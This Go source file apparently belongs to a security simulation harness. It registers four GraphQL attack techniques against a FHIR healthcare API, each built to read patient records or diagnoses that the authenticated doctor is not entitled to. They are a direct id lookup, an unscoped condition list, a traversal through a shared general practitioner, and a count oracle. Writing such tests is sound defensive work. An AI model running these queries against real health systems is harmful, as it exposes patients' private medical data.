package attacker

import (
	"context"
	"net/http"

	"thiefbox/sim/event"
)

// An API whose policy sits in the paths of REST has a side door in every other way to the same records. Here it is
// GraphQL: each of these is one query that a page of a real client might send.

var _ = register("F-25", Technique{
	Variant: "read",
	Title:   "A stranger's record by GraphQL",
	Story: "The thief is a doctor with an app and a valid token. The API asks at every path whose record it is; it answers GraphQL besides, for a page " +
		"that needed it, and there nobody asks. He names a patient who is not his.",
	Reads:  []string{"FHIR R4 graphql", "OWASP API1:2023", "OWASP API9:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run:    queries(func(g Ground) string { return `{ Patient(id: "` + stranger(g) + `") { ` + whoAndWhat + ` } }` }),
})

var _ = register("F-25/list", Technique{
	Variant: "list",
	Title:   "Everybody's diagnoses by GraphQL",
	Story:   "The thief asks for a list of diagnoses in a query, and leaves out whose. What a search would leave out, a list in a query does not.",
	Reads:   []string{"FHIR R4 graphql, Searching resources", "OWASP API1:2023"},
	Has:     []event.Asset{event.OwnClient},
	Beyond:  beyondObjects,
	Run: queries(func(Ground) string {
		return `{ ConditionList(_count: 100) { subject { reference } code { text } text { div } } }`
	}),
})

var _ = register("F-25/followed", Technique{
	Variant: "followed",
	Title:   "From one's own patient to everybody her doctor has",
	Story: "The thief asks for a patient of his own, as he may. In the same query he follows her record to her general practitioner, whom everybody may " +
		"look up, and from there back to whoever refers to that doctor: the other patients, who are not his.",
	Reads:  []string{"FHIR R4 graphql, Resource references, Reverse References", "OWASP API3:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run: queries(func(g Ground) string {
		return `{ Patient(id: "` + g.Target().OwnPatient + `") { generalPractitioner { resource { ... on Practitioner { ` +
			`PatientList(_reference: general_practitioner) { ` + whoAndWhat + ` } } } } } }`
	}),
})

var _ = register("F-25/count", Technique{
	Variant: "count",
	Title:   "How many there are, by GraphQL",
	Story:   "The thief asks for how many diagnoses a stranger has, and for none of them. The number is an answer, and one code at a time it tells which.",
	Reads:   []string{"FHIR R4 graphql, Connection", "OWASP API3:2023"},
	Has:     []event.Asset{event.OwnClient},
	Beyond:  beyondObjects,
	Run:     queries(func(g Ground) string { return `{ ConditionConnection(patient: "` + stranger(g) + `") { count } }` }),
})

// whoAndWhat is what a page about a patient would show.
const whoAndWhat = `id name { text given family } birthDate identifier { value } text { div }`

// queries is a technique that signs in and sends one query.
func queries(question func(Ground) string) func(context.Context, Ground) error {
	return func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		address := g.Target().FHIRBase + "/$graphql"
		_, err = a.withNonce(address, func() (*http.Request, error) {
			r, err := a.writing(ctx, http.MethodPost, address, []byte(question(g)), t)
			if err == nil {
				r.Header.Set("Content-Type", "application/graphql")
			}
			return r, err
		})
		return err
	}
}
